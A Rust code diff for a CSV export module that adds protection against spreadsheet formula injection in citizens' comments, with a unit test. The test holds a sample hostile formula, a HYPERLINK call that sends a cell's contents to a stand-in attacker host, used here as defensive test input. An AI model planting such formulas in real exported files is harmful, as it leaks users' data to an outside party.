@@ -2,7 +2,10 @@
 //! programs read accents right), CRLF line ends (RFC 4180). English files use ',' between
 //! fields and '.' as the decimal mark; French files ';' and ','. Money is in major units
 //! without grouping; waiting and service times in minutes, open and busy times in hours,
-//! shares in percent; dates as YYYY-MM-DD and times as YYYY-MM-DD HH:MM (UTC).
+//! shares in percent; dates as YYYY-MM-DD and times as YYYY-MM-DD HH:MM, in the centre's time
+//! zone. A text that a spreadsheet would take for a formula (it begins with '=', '+', '-', '@',
+//! a tab or a carriage return) is written after an apostrophe, so that it is shown, never run:
+//! citizens' comments are typed by anyone.
 
 use std::io::Write;
 use std::path::Path;
@@ -82,6 +85,7 @@ fn quote(field: &str, delimiter: char) -> String {
 
 fn cell_text(cell: &Cell, locale: Locale, currency: &Currency) -> String {
     match cell {
+        Cell::Text(t) if t.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{t}"),
         Cell::Text(t) => t.clone(),
         Cell::Count(n) => n.to_string(),
         Cell::Money(minor) => locale.money_plain(*minor, currency),
@@ -105,5 +109,23 @@ mod tests {
         assert_eq!(quote("a,b", ';'), "a,b");
         assert_eq!(quote("say \"hi\"", ','), "\"say \"\"hi\"\"\"");
         assert_eq!(quote("two\nlines", ','), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn a_text_a_spreadsheet_would_run_is_written_to_be_shown() {
+        let eur = Currency::parse("EUR").unwrap();
+        let text = |t: &str| cell_text(&Cell::Text(t.into()), Locale::En, &eur);
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(text(formula), format!("'{formula}"));
+        }
+        assert_eq!(text("Very helpful = thanks"), "Very helpful = thanks");
+        assert_eq!(cell_text(&Cell::Money(-250), Locale::En, &eur), "-2.50");
     }
 }
